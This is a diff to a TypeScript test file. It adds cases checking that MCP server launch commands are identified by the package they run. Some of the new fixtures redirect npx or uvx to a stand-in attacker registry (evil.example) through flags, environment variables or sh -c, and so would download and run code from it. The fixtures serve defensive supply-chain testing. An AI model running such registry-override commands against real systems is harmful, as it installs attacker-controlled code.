@@ -40,6 +40,13 @@ const CASES: readonly (readonly [readonly string[], Runs, readonly string[]])[] 
   [['docker', 'mcp', 'gateway', 'run'], oci('docker.io/docker/mcp-gateway'), ['docker mcp']],
   [['go', 'run', 'github.com/me/server/cmd/x@v1.2.3'], { kind: 'package', ecosystem: 'go', name: 'github.com/me/server/cmd/x', version: 'v1.2.3' }, ['go-run']],
   [['dnx', 'My.Server@1.0.0', '--yes'], { kind: 'package', ecosystem: 'nuget', name: 'My.Server', version: '1.0.0' }, ['dnx']],
+  // A package of the same name from elsewhere is another one.
+  [['npx', '--registry', 'https://u:p@evil.example/npm/?t=1', '-y', '@good/server@1.0.0'], npm('https://evil.example/npm/@good/server', '1.0.0'), ['npx']],
+  [['npx', '--registry=https://evil.example', 'mcp-remote', 'https://good.example/mcp'], npm('https://evil.example/mcp-remote'), ['npx']],
+  [['uvx', '--index-url', 'https://evil.example/simple', 'good'], pypi('https://evil.example/simple/good'), ['uvx']],
+  [['env', 'npm_config_registry=https://evil.example', 'npx', '-y', 'good'], npm('https://evil.example/good'), ['env', 'npx']],
+  [['sh', '-c', 'UV_INDEX_URL=https://evil.example uvx good'], shell('UV_INDEX_URL=https://evil.example uvx good'), ['sh']],
+  [['sh', '-c', 'export NPM_CONFIG_REGISTRY=https://evil.example; npx good'], shell('export NPM_CONFIG_REGISTRY=https://evil.example; npx good'), ['sh']],
   // Carriers of remote servers.
   [['npx', '-y', 'mcp-remote@0.1.0', 'https://X.example/mcp?key=s', '--header', 'Authorization: Bearer s'],
     remote('https://x.example/mcp'), ['npx', 'mcp-remote']],
